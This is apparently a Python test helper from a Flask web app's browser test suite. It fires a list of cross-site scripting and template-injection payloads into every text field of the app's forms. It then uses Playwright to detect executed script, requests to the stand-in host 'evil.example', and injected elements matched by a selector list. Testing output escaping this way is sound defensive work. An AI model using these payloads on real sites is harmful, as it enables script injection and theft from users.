"""Texts that would run as script on a page that forgets to escape them, and the ways to send them."""

import re
from collections.abc import Iterator, Mapping, Set
from dataclasses import dataclass
from typing import Any
from xml.etree.ElementTree import Element

import html5lib
from flask.testing import FlaskClient
from playwright.sync_api import Dialog, Page, Request
from werkzeug.test import TestResponse

from tests.browser.organisation import Organisation

RUN = "window.__xss=1"
EVIL = "//evil.example/"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<math><a xlink:href=javascript:{RUN}>m</a></math>",
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    "{{7*191}}${7*191}<%=7*191%>#{7*191}",
    f'" onfocus={RUN} autofocus x="',
    f"' onfocus={RUN} autofocus x='",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f'x"\nonpointerenter={RUN} y="',
    f"<style>@import'{EVIL}x';</style>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<base href={EVIL}>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    f"<form action={EVIL}><button autofocus>x</button></form>",
)
MARKS = ("__xss", "evil.example", "7*191")
LONGEST = 2000
KNOWN = "Python"
"""A skill of the catalogue."""

TAKEN = frozenset({200, 303})
FORM = re.compile(r"<form\b.*?</form>", re.S)
FIELDS = frozenset({"input", "textarea", "select"})
TYPED = frozenset({"text", "search", "email", "url", "tel"})
INJECTED = (
    "[onerror], [onload], [onfocus], [onpointerenter], iframe, base, meta[http-equiv], style, math, "
    "script:not([type=module][src^='/static/']), [href^='javascript:' i], [href^='data:' i], "
    "[action*='evil.example'], [src*='evil.example']"
)


def packs(longest: int) -> list[str]:
    """All payloads that fit, in as few texts as that length allows."""
    made: list[str] = []
    for payload in PAYLOADS:
        if made and len(made[-1]) + 1 + len(payload) <= longest:
            made[-1] += " " + payload
        elif len(payload) <= longest:
            made.append(payload)
    return made


@dataclass(frozen=True)
class FoundForm:
    """`texts`: the names of its text fields and how long they may be; `lines`: those that take several lines. `filled`:
    what a browser sends untouched, with something fitting where nothing stood."""

    action: str
    method: str
    texts: Mapping[str, int]
    lines: Set[str]
    filled: Mapping[str, list[str]]

    @property
    def key(self) -> str:
        return f"{self.method} {re.sub(r'[0-9]+', '1', self.action.partition('?')[0])} {','.join(sorted(self.texts))}"


def forms_of(body: str, path: str) -> Iterator[FoundForm]:
    """Each form with a text field, once for each address that its buttons send it to."""
    for form in _forms(body):
        texts: dict[str, int] = {}
        lines = {element.get("name") or "" for element in form.iter("textarea")}
        filled: dict[str, list[str]] = {}
        for element in form.iter():
            name = element.get("name", "")
            # A row of which scripts make further rows is never sent itself.
            if element.tag in FIELDS and name and "{" not in name and element.get("disabled") is None:
                _fill(element, name, texts, filled)
        buttons = {one.get("formaction") for one in form.iter("button") if one.get("type") != "button"} or {None}
        for action in sorted({one or form.get("action") or path for one in buttons}) if texts else ():
            yield FoundForm(action, (form.get("method") or "get").lower(), texts, lines, filled)


def _fill(element: Element, name: str, texts: dict[str, int], filled: dict[str, list[str]]) -> None:
    kind = element.get("type", "text")
    if element.tag == "textarea" or (element.tag == "input" and kind in TYPED):
        texts[name] = min(int(element.get("maxlength") or LONGEST), LONGEST)
        wanted = element.get("required") is not None
        fitting = KNOWN if name.endswith("-skill") else _fitting(kind) if wanted else ""
        filled[name] = [element.get("value") or element.text or fitting]
    elif element.tag == "select":
        options = [one.get("value") or "" for one in element.iter("option") if one.get("selected") is not None]
        every = [one.get("value") or "" for one in element.iter("option")]
        filled[name] = options or every[:1]
    elif kind in {"checkbox", "radio"}:
        if element.get("checked") is not None or name not in filled:
            filled[name] = [element.get("value", "on")]
    elif kind not in {"file", "password", "submit"}:
        filled[name] = [element.get("value") or _fitting(kind)]


def _forms(body: str) -> list[Element]:
    """The forms of the page, each parsed by itself: whole pages take ten times as long."""
    parts = [html5lib.parseFragment(part, namespaceHTMLElements=False) for part in set(FORM.findall(body))]
    return [form for part in parts for form in part.iter("form")]


def _fitting(kind: str) -> str:
    return {"email": "fitting@example.org", "date": "2027-01-11", "number": "1", "hidden": ""}.get(kind, "Fitting")


def send(client: FlaskClient, form: FoundForm, path: str) -> Iterator[TestResponse]:
    """Every payload in every text field: in all of them at once; where that is always refused, in each alone, and then
    in all at once that took the first.

    `path`: the page of the form, which is opened anew once something was taken: a form is of the state it was shown in.
    """
    tried: list[dict[str, list[str]]] = []
    for longest in (LONGEST, 200):
        texts = {name: packs(min(most, longest)) for name, most in form.texts.items()}
        if texts in tried:
            continue
        tried.append(texts)
        stored = False
        for number in range(max(map(len, texts.values()))):
            # Another in each field: what must differ, like the names of phases, does.
            sent = {
                name: [packed[(number + place) % len(packed)]]
                for place, (name, packed) in enumerate(texts.items())
                if packed
            }
            yield (answer := _send(client, form, sent))
            if answer.status_code in TAKEN:
                stored, form = True, shown_again(client, form, path) or form
        if stored:
            return
    texts = {name: packs(min(most, 100)) for name, most in form.texts.items()}
    taking: dict[str, list[str]] = {}
    for name, packed in texts.items():
        yield (answer := _send(client, form, {name: packed[:1]}))
        if answer.status_code in TAKEN:
            taking[name] = packed
            form = shown_again(client, form, path) or form
    for number in range(1, max(map(len, taking.values()), default=0)):
        yield _send(client, form, {name: [packed[number % len(packed)]] for name, packed in taking.items()})
        form = shown_again(client, form, path) or form


def shown_again(client: FlaskClient, form: FoundForm, path: str) -> FoundForm | None:
    """The form as its page shows it now; None where it does not any more."""
    if form.method == "get":
        return form
    found = forms_of(client.get(path).get_data(as_text=True), path)
    return next((one for one in found if one.key == form.key), None)


def _send(client: FlaskClient, form: FoundForm, sent: Mapping[str, list[str]]) -> TestResponse:
    # What one line takes holds no line break: a browser could not send one.
    typed = {
        name: texts if name in form.lines else [text.replace("\n", " ") for text in texts]
        for name, texts in sent.items()
    }
    fields: dict[str, Any] = {**form.filled, **typed}
    fields.pop("once", None)  # the answer of the first would be given to all
    if form.method == "get":
        return client.get(form.action, query_string=fields)
    return client.post(form.action, data=fields)


class Watch:
    """Everything that a page does which no text may make it do."""

    def __init__(self, page: Page, organisation: Organisation) -> None:
        self.page, self.organisation, self.seen = page, organisation, list[str]()
        page.add_init_script(
            "window.__refused = []; document.addEventListener('securitypolicyviolation',"
            " event => window.__refused.push(event.violatedDirective + ' ' + event.blockedURI))"
        )
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        page.on("pageerror", lambda error: self.seen.append(f"error: {error}"))
        page.on("console", lambda said: self.seen.append(said.text) if "Content Security" in said.text else None)

    def _dialog(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        if not request.url.startswith(self.organisation.address + "/"):
            self.seen.append(f"request: {request.url}")

    def look(self, path: str, answer: TestResponse) -> list[str]:
        """What happened on the page that this answer makes. Its controls are touched, so that handlers would run."""
        self.seen.clear()
        self.organisation.show(self.page, path, answer)
        found: list[str] = self.page.evaluate(
            """injected => {
              for (const element of document.querySelectorAll("main input, main a, main button"))
                element.dispatchEvent(new PointerEvent("pointerenter"));
              return [
                ...(window.__xss ? ["script ran"] : []),
                ...window.__refused,
                ...[...document.querySelectorAll(injected)].map(element => "made: " + element.outerHTML.slice(0, 150)),
              ];
            }""",
            INJECTED,
        )
        return [*self.seen, *found]

    def told(self) -> str:
        """All that the page says: its text, what its fields hold, and what its elements are called."""
        text: str = self.page.evaluate(
            """() => [document.documentElement.textContent, document.title,
                 ...[...document.querySelectorAll("input, textarea")].map(field => field.value)].join(" ")"""
        )
        return " ".join(text.split())
